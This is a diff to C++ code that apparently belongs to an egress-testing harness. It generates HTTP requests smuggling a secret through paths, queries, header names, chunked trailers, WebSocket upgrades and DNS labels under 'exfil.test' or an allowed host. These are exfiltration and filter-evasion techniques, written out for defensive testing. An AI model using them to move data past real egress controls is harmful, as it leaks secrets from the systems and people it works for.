@@ -1,9 +1,41 @@
 #include "attacks/http_message.h"
 
 #include "attacks/carrier.h"
+#include "attacks/http_body.h"
 #include "harness/digest.h"
 
 namespace bottle {
+namespace {
+
+constexpr std::size_t kChunk = 7;
+
+std::string in_chunks(const std::string& body, const std::vector<std::pair<std::string, std::string>>& trailers) {
+  std::string text;
+  for (std::size_t at = 0; at < body.size(); at += kChunk) {
+    const std::string piece = body.substr(at, kChunk);
+    text += std::to_string(piece.size()) + "\r\n" + piece + "\r\n";
+  }
+  text += "0\r\n";
+  for (const auto& [name, value] : trailers) text += name + ": " + value + "\r\n";
+  return text + "\r\n";
+}
+
+// The headers that say how the message is framed, and then the body.
+std::string framed(const Exchange& exchange) {
+  std::string text;
+  if (exchange.upgrade)  // RFC 6455 4.1; any 16 bytes are a key
+    text += "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: " + to_base64(std::string(16, 'k')) +
+            "\r\n";
+  if (!exchange.body.empty()) text += "Content-Type: " + exchange.content_type + "\r\n";
+  if (!exchange.body.empty() && !exchange.chunked)
+    text += "Content-Length: " + std::to_string(exchange.body.size()) + "\r\n";
+  if (exchange.chunked) text += "Transfer-Encoding: chunked\r\n";
+  for (const auto& [name, value] : exchange.trailers) text += "Trailer: " + name + "\r\n";
+  text += std::string("Connection: ") + (exchange.upgrade ? "Upgrade" : "close") + "\r\n\r\n";
+  return text + (exchange.chunked ? in_chunks(exchange.body, exchange.trailers) : exchange.body);
+}
+
+}  // namespace
 
 std::string url_of(const Exchange& exchange) {
   const bool usual = exchange.uri_port == (exchange.tls ? 443 : 80);
@@ -20,8 +52,19 @@ void set_message(const Choice& choice, const Brief& brief, Exchange& exchange) {
   if (position == "path") exchange.target += "/" + secret;
   if (position == "query") exchange.target += "?data=" + to_percent_reserved(secret);
   if (position == "header") exchange.headers.emplace_back("X-Data", secret);
-  if (position == "body") exchange.body = "data=" + secret;
-  if (position == "host") exchange.uri_host = as_labels(secret) + "." + brief.nonce + ".exfil.test";
+  if (position == "header-name") exchange.headers.emplace_back("X-" + secret, "1");
+  if (position == "body") set_body(chosen(choice, "content", "form"), secret, exchange);
+  if (position == "trailer") {
+    exchange.body = "data=none";
+    exchange.trailers.emplace_back("X-Data", secret);
+  }
+  if (position == "host") {
+    const bool allowed = chosen(choice, "target", "allowed") == "allowed";
+    exchange.uri_host = as_labels(secret) + "." + brief.nonce + "." + (allowed ? brief.allowed_host : "exfil.test");
+  }
+  const std::string framing = chosen(choice, "framing", "length");
+  exchange.upgrade = framing == "upgrade";
+  exchange.chunked = !exchange.body.empty() && (framing == "chunked" || position == "trailer");
 }
 
 void try_with_prober(const Exchange& exchange, Attempt& attempt) {
@@ -30,12 +73,7 @@ void try_with_prober(const Exchange& exchange, Attempt& attempt) {
   std::string request = (exchange.body.empty() ? "GET " : "POST ") + uri + " HTTP/1.1\r\nHost: " + exchange.host +
                         "\r\nUser-Agent: " + exchange.agent + "\r\nAccept: */*\r\n";
   for (const auto& [name, value] : exchange.headers) request += name + ": " + value + "\r\n";
-  if (!exchange.body.empty()) {
-    request +=
-        "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: " + std::to_string(exchange.body.size()) +
-        "\r\n";
-  }
-  request += "Connection: close\r\n\r\n" + exchange.body;
+  request += framed(exchange);
   attempt.action = {
       {"action", "http"}, {"address", exchange.dial.address}, {"port", exchange.dial.port}, {"timeout_ms", 4000},
       {"read_ms", 3000},  {"request", to_base64(request)}};
